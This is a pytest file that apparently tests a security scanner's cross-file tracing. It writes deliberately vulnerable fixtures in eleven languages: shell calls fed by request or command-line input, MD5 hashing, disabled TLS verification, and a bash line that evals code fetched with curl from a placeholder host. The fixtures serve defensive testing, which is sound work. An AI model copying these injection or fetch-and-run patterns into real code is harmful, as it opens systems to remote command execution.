"""Every language whose files know each other: a call of what another file defines, in real folders."""

import pytest

from gifthorse.store.catalogue import load_catalogue
from gifthorse.workspace.survey import Roots, Surveyed, gather, survey

FILES = {
    "java": {
        "com/acme/Db.java": 'package com.acme;\nimport java.security.MessageDigest;\npublic class Db {\n  public static MessageDigest hash(String name) throws Exception { return MessageDigest.getInstance(name); }\n  public static final String ALG = "MD5";\n}\n',
        "com/acme/Web.java": 'package com.acme;\nimport java.security.MessageDigest;\nclass Web { void f() throws Exception { Db.hash("MD5"); MessageDigest.getInstance(Db.ALG); } }\n',
        "com/other/X.java": 'package com.other;\nimport com.acme.Db;\nclass X { void f() throws Exception { Db.hash("MD5"); } }\n',
    },
    "kotlin": {
        "a/Db.kt": 'package a\nimport java.security.MessageDigest\nval ALG = "MD5"\nfun hash(n: String): MessageDigest { return MessageDigest.getInstance(n) }\n',
        "a/Web.kt": 'package a\nimport java.security.MessageDigest\nfun f() { hash("MD5")\n MessageDigest.getInstance(ALG) }\n',
    },
    "php": {
        "db.php": "<?php\nfunction run($c) { return shell_exec($c); }\n",
        "a.php": '<?php\nrequire_once __DIR__ . "/db.php";\nrun("ls " . $_GET["x"]);\n',
        "b.php": '<?php\ninclude "db.php";\nrun("ls " . $_GET["x"]);\n',
        "app/Models/User.php": "<?php\nnamespace App\\Models;\nclass User { static function run($c) { return shell_exec($c); } }\n",
        "c.php": '<?php\nuse App\\Models\\User;\nUser::run("ls " . $_GET["x"]);\n',
    },
    "ruby": {
        "db.rb": "def run(c)\n  system(c)\nend\n",
        "a.rb": 'require_relative "db"\nrun("ls #{params[:x]}")\n',
        "b.rb": 'require_relative "./db"\nname = gets\nrun("ls #{name}")\n',
    },
    "bash": {
        "lib.sh": 'run() {\n  eval "$1"\n}\n',
        "a.sh": '#!/bin/bash\nsource ./lib.sh\nrun "$(curl http://x/y)"\n',
        "b.sh": '. "$(dirname "$0")/lib.sh"\nrun "$1"\n',
    },
    "c": {
        "db.h": "#define LIMIT 4\nvoid run(char *c);\n",
        "db.c": '#include <stdlib.h>\n#include "db.h"\nvoid run(char *c) { system(c); }\n',
        "a.c": '#include <stdio.h>\n#include "db.h"\nint main(int argc, char **argv) { char b[100]; sprintf(b, "ls %s", argv[1]); run(b); return 0; }\n',
    },
    "go": {
        "go.mod": "module ex.com/m\n",
        "db/db.go": 'package db\nimport "os/exec"\nfunc Run(c string) error { return exec.Command("sh", "-c", c).Run() }\nconst Insecure = true\n',
        "main.go": 'package main\nimport (\n "crypto/tls"\n "net/http"\n "ex.com/m/db"\n)\nfunc h(w http.ResponseWriter, r *http.Request) { db.Run("ls " + r.FormValue("x")) }\nvar c = &tls.Config{InsecureSkipVerify: db.Insecure}\n',
    },
    "csharp": {
        "Db.cs": 'using System.Security.Cryptography;\nclass Db { public static HashAlgorithm Hash(string n) { return HashAlgorithm.Create(n); } public const string Alg = "MD5"; }\n',
        "Web.cs": 'using System.Security.Cryptography;\nclass Web { void F() { Db.Hash("MD5"); HashAlgorithm.Create(Db.Alg); } }\n',
    },
    "swift": {
        "Db.swift": 'import Foundation\nfunc run(_ c: String) { let p = Process(); p.launchPath = "/bin/sh"; p.arguments = ["-c", c]; p.launch() }\nlet url = "http://x.com/a"\n',
        "Web.swift": 'import Foundation\nfunc f(x: String) { run("ls " + x) }\n',
    },
    "rust": {
        "src/db.rs": 'use std::process::Command;\npub fn run(c: &str) { Command::new("sh").arg("-c").arg(c).spawn(); }\n',
        "src/main.rs": 'mod db;\nuse crate::db::run;\nfn main() { let a: Vec<String> = std::env::args().collect(); run(&format!("ls {}", a[1])); db::run(&a[1]); }\n',
    },
    "powershell": {
        "lib.ps1": "function Run($c) { Invoke-Expression $c }\n",
        "a.ps1": '. ./lib.ps1\nRun ("ls " + $args[0])\n',
    },
}
EXPECTED = {
    "java": {("com/acme/Web.java", "com/acme/Db.java"), ("com/other/X.java", "com/acme/Db.java")},
    "kotlin": {("a/Web.kt", "a/Db.kt")},
    "php": {("a.php", "db.php"), ("b.php", "db.php"), ("c.php", "app/Models/User.php")},
    "ruby": {("a.rb", "db.rb")},
    "bash": {("a.sh", "lib.sh")},
    "c": {("a.c", "db.c")},
    "go": {("main.go", "db/db.go")},
    "csharp": {("Web.cs", "Db.cs")},
    "swift": {("Web.swift", "Db.swift")},
    "rust": {("src/main.rs", "src/db.rs")},
    "powershell": {("a.ps1", "lib.ps1")},
}


@pytest.fixture(scope="module")
def led(tmp_path_factory):
    """By language: which file's findings lead into which other file."""
    found = {}
    top = tmp_path_factory.mktemp("across").resolve()
    for language, files in FILES.items():
        for name, text in files.items():
            path = top / language / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        (top / language / ".git").mkdir()
    roots = Roots(load_catalogue(), trusted=False, configured=False)
    for one in survey(list(gather([top / language for language in FILES], roots)), roots):
        assert isinstance(one, Surveyed)
        assert one.incomplete == ""
        steps = [step.elsewhere for judged in one.judgement.shown for step in judged.finding.steps]
        language = one.path.relative_to(top).parts[0]
        found.setdefault(language, set()).update(
            (one.name, place.path.removeprefix(f"{top / language}/")) for place in steps if place
        )
    return found


@pytest.mark.parametrize("language", FILES)
def test_a_call_leads_into_the_other_file(led, language):
    assert led[language] == EXPECTED[language]
